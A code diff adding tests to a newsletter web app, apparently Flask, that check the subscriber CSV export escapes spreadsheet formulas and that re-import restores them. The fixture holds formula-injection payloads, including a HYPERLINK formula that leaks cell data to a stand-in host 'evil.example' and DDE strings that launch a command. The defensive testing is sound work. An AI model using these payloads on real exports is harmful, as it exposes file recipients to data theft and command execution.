@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 
@@ -142,3 +143,43 @@ def confirm(client, link: str) -> None:
     token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
     data = {"csrf_token": token.group(1)} if token else {}
     assert client.post(link, data=data).status_code in (200, 302)
+
+
+FORMULAS = {  # what anonymous visitors typed in the subscribe form: address, name
+    "=2+5@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd@example.org": "+cmd|' /C calc'!A0",
+    "-sum@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plain@example.org": "-2+3",
+}
+
+
+def subscribe_as_visitors(app, addresses: dict[str, str]) -> None:
+    visitor = app.test_client()
+    for email, name in addresses.items():
+        answer = visitor.post("/subscribe/city", data={"email": email, "name": name})
+        assert answer.status_code == 200
+
+
+def test_the_export_writes_what_visitors_typed_as_text_never_as_a_formula(app, admin):
+    make_newsletter()
+    subscribe_as_visitors(app, FORMULAS)
+    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/subscribers.csv").get_data(True))))
+    cells = {(row["email"], row["name"]) for row in rows}
+    assert cells == {
+        ("'=2+5@example.com", "'" + FORMULAS["=2+5@example.com"]),
+        ("'+cmd@example.org", "'" + FORMULAS["+cmd@example.org"]),
+        ("'-sum@example.org", "'" + FORMULAS["-sum@example.org"]),
+        ("plain@example.org", "'-2+3"),
+    }
+
+
+def test_an_export_imports_back_as_it_was_typed(app, admin):
+    make_newsletter()
+    county = make_newsletter("county", "County")
+    subscribe_as_visitors(app, FORMULAS)
+    exported = admin.get("/admin/subscribers.csv").get_data()
+    data = {"newsletter": str(county.id), "file": (io.BytesIO(exported), "export.csv")}
+    page = admin.post("/admin/subscribers/import", data=data, content_type="multipart/form-data")
+    assert "4 added to County, 0 already there" in page.get_data(as_text=True)
+    names = db.session.execute(select(Subscriber.email, Subscriber.name)).all()
+    assert dict(names) == FORMULAS
